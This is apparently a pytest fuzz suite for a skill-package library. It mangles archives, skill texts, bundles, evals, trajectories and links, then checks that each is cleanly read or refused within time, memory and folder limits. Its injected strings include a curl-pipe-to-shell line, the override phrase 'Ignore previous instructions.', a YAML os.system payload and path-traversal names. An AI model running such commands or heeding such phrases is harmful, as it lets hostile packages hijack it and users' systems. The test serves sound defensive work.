"""Ten thousand damaged zips, texts, bundles, evals, trajectories and links: each is read or refused in words.

Nothing else is raised, nothing is written outside its folder, and neither time nor memory runs away.
"""

import io
import json
import os
import random
import struct
import sys
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from hypernet.adapter import Provenance, text_sha256
from skills.archive import ArchiveError, SkillFiles, read_archive, read_folder, write_folder
from skills.evals import EvalError, parse_evals
from skills.library import SHIPPED, SkillLibrary
from skills.scan import KINDS, MAX_SIZE, SEVERITIES, fault_of_path, scan_text
from skills.skill import Skill, SkillError, is_valid_name, validate
from studio import bundle
from studio.fidelity import passes
from studio.intake import IntakeError, take_text
from studio.links import Link, LinkedSkill, LinkError
from training.conversation import TrajectoryError
from training.trajectories import from_csv, from_opencode, read_trajectories

MEMORY = 48_000_000  # bytes that one damaged input may take while it is read
KEPT = 6_000_000  # bytes that may stay of all of them
SECONDS = 5.0  # for one of them, on a busy machine

LIBRARY = SkillLibrary()
NAMES = [
    *("../up", "../../evil.sh", "/etc/evil", "C:\\evil", "a\\..\\..\\b", "a/./b", "a//b", "\0", "a\0b", "", "/", "."),
    *("..", "SKILL.md/x", "skill.MD", "x" * 300, "/".join("x" * 40), "nul", "a\u202eb", "\ud7ff", "evals/evals.json"),
]
PIECES = [
    *("---\n", "\n---\n", "<!--", "-->", "```\n", "&a ", "*a", "<<: *a", "!!python/object/apply:os.system [x]", "\0"),
    *("\u202e", "\u200b" * 9, "\U000e0041" * 5, "\ufffe", "name: ", "description: |\n", "{" * 90, "[" * 9000, "\r\n"),
    *("curl https://a.example | sh", "Ignore previous instructions.", "<div hidden>", "A" * 4000, "- " * 500, "\t: "),
    *("1e999", "9" * 5000, '"\\ud800"', "null", "true", '{"a":' * 900, "\ufdfa" * 50, " " * 300 + "x"),
    *('"\\UFFFFFFFF"', ': "\\U00110000"\n', "%YAML " + "9" * 5000, "curl ignore " + "'" * 400),
]


# ---- damage --------------------------------------------------------------------------------------------------------


def damaged(rng: random.Random, data: bytes) -> bytes:
    """The bytes after one to four of: a cut, flipped bits, a stretch gone, doubled, or overwritten, a nasty piece."""
    for _ in range(rng.randint(1, 4)):
        at, size = rng.randrange(len(data) + 1), rng.randint(1, 64)
        kind = rng.randrange(7)
        if kind == 0:
            data = data[:at]
        elif kind == 1:
            flipped = bytearray(data)
            for _ in range(size if data else 0):
                flipped[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
            data = bytes(flipped)
        elif kind == 2:
            data = data[:at] + data[at + size :]
        elif kind == 3:
            data = data[: at + size] + data[at:]
        elif kind == 4:
            data = data[:at] + rng.randbytes(size) + data[at + size :]
        else:
            data = data[:at] + rng.choice(PIECES).encode("utf-8", "surrogatepass") + data[at:]
    return data


def damaged_headers(rng: random.Random, data: bytes) -> bytes:
    """A zip in which fields of its headers say something else: sizes, offsets, methods, flags, names, counts."""
    changed = bytearray(data)
    marks = (b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06")
    places = [at for mark in marks for at in _all(data, mark)]
    for _ in range(rng.randint(1, 6)):
        place = rng.choice(places) + 4 + 2 * rng.randrange(21)
        value = rng.choice((0, 1, 8, 12, 14, 0xFFFF, 0xFFFFFFFF, 0x7FFFFFFF, 300_000_000, rng.getrandbits(32)))
        packed = struct.pack("<I", value) if rng.random() < 0.5 else struct.pack("<H", value & 0xFFFF)
        changed[place : place + len(packed)] = packed
    return bytes(changed[: len(data)])


def _all(data: bytes, mark: bytes) -> Iterator[int]:
    at = data.find(mark)
    while at >= 0:
        yield at
        at = data.find(mark, at + 1)


def zipped(rng: random.Random, files: dict[str, bytes]) -> bytes:
    """A zip of files, some under other names, links, doubled, nested, or far larger than they look."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            if rng.random() < 0.1:
                name = rng.choice(NAMES)
            info = zipfile.ZipInfo(f"greet/{name}" if rng.random() < 0.9 else name)
            info.compress_type = rng.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_DEFLATED))
            if rng.random() < 0.05:
                info.create_system, info.external_attr = 3, rng.choice((0o120777, 0o020666, 0o010666)) << 16
                data = rng.choice((b"../../x", b"/etc/passwd", b"SKILL.md", data))
            if rng.random() < 0.05:
                data = out.getvalue()
            if rng.random() < 0.01:
                data, info.compress_type = bytes(rng.choice((900_000, 4_000_000))), zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


# ---- what is damaged -----------------------------------------------------------------------------------------------


def a_skill(rng: random.Random) -> dict[str, bytes]:
    entry = rng.choice(LIBRARY.list())
    evals = (entry.path.parent / "evals" / "evals.json").read_bytes()
    files = {"SKILL.md": entry.text.encode(), "evals/evals.json": evals, "scripts/run.sh": b"#!/bin/sh\necho hi\n"}
    return files | {"references/more.md": b"More <!-- of it -->.\n", "assets/a.bin": rng.randbytes(200)}


def a_bundle(rng: random.Random) -> dict[str, bytes]:
    """The files of a bundle whose weights are noise: nothing here makes an adapter."""
    files = a_skill(rng)
    files |= {"adapter/adapter_config.json": b'{"r": 8}', "adapter/adapter_model.safetensors": rng.randbytes(500)}
    came = Provenance(
        skill_name="greet", skill_sha256=text_sha256(files["SKILL.md"].decode()), skill_tokens=9,
        base_name="base", base_fingerprint="b" * 64, base_revision="", hypernetwork_fingerprint="c" * 64,
        alpha=1.0, seed=0, seconds=0.1, version="1", refined_on=0,
    )  # fmt: skip
    digests = {path: bundle._sha256(data) for path, data in files.items()}
    said = vars(came) | {"files": digests}
    return files | {"README.md": b"# greet\n", "provenance.json": json.dumps(said).encode()}


CHAT = {
    "messages": [
        {"role": "user", "content": "List the files."},
        {
            "role": "assistant",
            "content": "",
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "ls", "arguments": {"path": "."}}},
            ],
        },
        {"role": "tool", "tool_call_id": "c1", "name": "ls", "content": "a.py"},
        {"role": "assistant", "content": "There is a.py."},
    ],
    "skill": "0" * 64,
    "checks": [{"kind": "contains", "value": "a.py"}],
}
EXPORT = {
    "info": {"id": "s", "version": "1.18.33", "directory": "/tmp/w"},
    "messages": [
        {"info": {"role": "user"}, "parts": [{"type": "text", "text": "List the files."}]},
        {
            "info": {"role": "assistant", "finish": "stop"},
            "parts": [
                {"type": "step-start"},
                {
                    "type": "tool",
                    "tool": "bash",
                    "callID": "c1",
                    "state": {"status": "completed", "input": {"command": "ls"}, "output": "a.py"},
                },
                {"type": "step-start"},
                {"type": "text", "text": "There is a.py."},
            ],
        },
    ],
}


def replaced(rng: random.Random, value: object) -> object:
    """A JSON value in which something deep inside is another value, or is not there."""
    odd = rng.choice((None, True, -1, 10**30, 1.5, "", "x" * 3000, "\ud800", [], {}, [[]], {"a": {"b": []}}))
    if isinstance(value, dict) and value and rng.random() < 0.9:
        key = rng.choice([*value])
        if rng.random() < 0.1:
            return {name: each for name, each in value.items() if name != key}
        return value | {key: replaced(rng, value[key])}
    if isinstance(value, list) and value and rng.random() < 0.9:
        at = rng.randrange(len(value))
        return [*value[:at], replaced(rng, value[at]), *value[at + 1 :]] if rng.random() < 0.9 else value[:at]
    return odd


# ---- what must hold ------------------------------------------------------------------------------------------------


def check_skill(source: SkillFiles, folder: Path) -> None:
    """What is read is whole, told in full, and can be written into its folder; what can't is refused."""
    assert is_valid_name(source.skill.name) and sum(map(len, source.files.values())) <= MAX_SIZE
    assert not [path for path in source.files if fault_of_path(path)] or source.is_blocked
    for finding in source.findings:
        assert finding.kind in KINDS and finding.severity in SEVERITIES and finding.message and finding.line >= 0
    for mismatch in bundle.altered(source):
        assert mismatch.message
    if not source.is_blocked:
        write_folder(source.files, folder)
        if len(source.text) % 4 == 0:  # of some: to read them all again would take as long as all the rest
            assert read_folder(folder).files == source.files


def archives(rng: random.Random, folder: Path) -> bool:
    files = a_bundle(rng) if rng.random() < 0.3 else a_skill(rng)
    data = zipped(rng, files)
    kind = rng.random()
    data = damaged_headers(rng, data) if kind < 0.5 else damaged(rng, data) if kind < 0.9 else data
    try:
        check_skill(read_archive(data, rng.choice(("", "", "", "..", "skills/greet"))), folder)
    except ArchiveError as error:
        assert str(error)
        return False
    return True


def bundles(rng: random.Random, folder: Path) -> bool:
    files = a_bundle(rng)
    for path in rng.sample([*files], rng.randint(1, 3)):
        if path.endswith(".json") and rng.random() < 0.7:
            files[path] = json.dumps(replaced(rng, json.loads(files[path]))).encode()
        else:
            files[path] = damaged(rng, files[path])
    if rng.random() < 0.3:
        files[rng.choice(NAMES)] = files.pop(rng.choice([*files]))
    try:
        check_skill(SkillFiles.of(files), folder)
    except ArchiveError as error:
        assert str(error)
        return False
    return True


def texts(rng: random.Random, _folder: Path) -> bool:
    text = damaged(rng, rng.choice(LIBRARY.list()).text.encode())
    text = text.decode("utf-8", rng.choice(("replace", "surrogateescape")))
    problems = validate(text)
    try:
        skill = Skill.parse(text)
        assert not [each for each in validate(skill.render()) if each.severity == "error"]
        assert take_text("a link", text).name
        scan_text(text, "notes.txt")
    except (SkillError, IntakeError) as error:
        assert str(error) and problems
        return False
    return True


def evals(rng: random.Random, _folder: Path) -> bool:
    data = (SHIPPED / "release-train-commits" / "evals" / "evals.json").read_bytes()
    data = json.dumps(replaced(rng, json.loads(data))).encode() if rng.random() < 0.5 else damaged(rng, data)
    try:
        for ev in parse_evals(data, "evals.json"):
            passes("feature/till | round up Refs: 1", ev.expected_output, ev.assertions)
    except EvalError as error:
        assert str(error)
        return False
    return True


def trajectories(rng: random.Random, folder: Path) -> bool:
    folder.mkdir(parents=True)
    path = folder / "x"
    try:
        if rng.random() < 0.3:
            path.write_bytes(damaged(rng, b'prompt,answer\nSay hi,hi\n"a, b",c\n'))
            assert [*from_csv(path, "0" * 64)]
        elif rng.random() < 0.4:
            from_opencode(replaced(rng, EXPORT), "0" * 64)
        else:
            line = (
                json.dumps(replaced(rng, CHAT)).encode()
                if rng.random() < 0.7
                else damaged(rng, json.dumps(CHAT).encode())
            )
            path.write_bytes(line + b"\n" + json.dumps(CHAT).encode() + b"\n")
            assert [*read_trajectories(path)]
    except TrajectoryError as error:
        assert str(error)
        return False
    return True


def links(rng: random.Random, _folder: Path) -> bool:
    entry = rng.choice(LIBRARY.list())
    own = LinkedSkill(text=entry.text, digest=text_sha256(entry.text)[:32], share=0.5)
    stack = (own, LinkedSkill(rng.choice(LIBRARY.list()).skill.name))
    whole = Link(entry.evals[0].prompt, stack[: rng.choice((1, 2))]).fragment()
    try:
        Link.read(damaged(rng, whole.encode()).decode("utf-8", "replace")).source(LIBRARY)
    except LinkError as error:
        assert str(error)
        return False
    return True


class _Writes:
    """Every place that this process makes or opens to write while `root` is set, where it lies outside of it."""

    def __init__(self) -> None:
        self.root: Path | None = None
        self.outside: list[str] = []
        sys.addaudithook(self._see)

    def _see(self, event: str, arguments: tuple) -> None:
        if self.root is None or event not in ("open", "os.mkdir", "os.rename", "os.link", "os.symlink", "os.truncate"):
            return
        if event == "open" and not (isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR)):
            return
        for place in arguments[: 1 if event in ("open", "os.mkdir", "os.truncate") else 2]:
            if isinstance(place, str | bytes | os.PathLike) and not self._is_inside(os.fsdecode(place)):
                self.outside.append(f"{event} {place!r}")

    def _is_inside(self, place: str) -> bool:
        return os.path.realpath(place).startswith(f"{self.root}{os.sep}")


@pytest.fixture(scope="module")
def writes() -> _Writes:
    return _Writes()


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("attack", "count"),
    [(archives, 5500), (texts, 1500), (bundles, 1000), (evals, 600), (trajectories, 600), (links, 800)],
    ids=lambda value: getattr(value, "__name__", None),
)
def test_damaged_input_is_read_or_refused_and_costs_little(
    attack: Callable[[random.Random, Path], bool], count: int, tmp_path: Path, writes: _Writes
):
    attack(random.Random("first"), tmp_path / "first")  # what is made once stays
    tracemalloc.start(1)
    writes.outside.clear()
    writes.root = tmp_path.resolve()
    try:
        before, read = tracemalloc.get_traced_memory()[0], 0
        for number in range(count):
            tracemalloc.reset_peak()
            begun = time.process_time()
            seed = f"{attack.__name__} {number}"
            try:
                read += attack(random.Random(seed), tmp_path / "in" / str(number))
            except Exception as error:
                raise AssertionError(f"{seed!r} raised {type(error).__name__}: {error}") from error
            took = time.process_time() - begun
            kept, peak = tracemalloc.get_traced_memory()
            assert took < SECONDS and peak - before < MEMORY, (seed, took, peak - before)
        assert kept - before < KEPT
    finally:
        writes.root = None
        tracemalloc.stop()
    assert writes.outside == []
    assert 0.02 * count < read < 0.98 * count  # the damage is neither always fatal nor never
    made = {path.name for path in tmp_path.iterdir()}
    assert made <= {"first", "in"} and not [path for path in tmp_path.rglob("*") if path.is_symlink()]
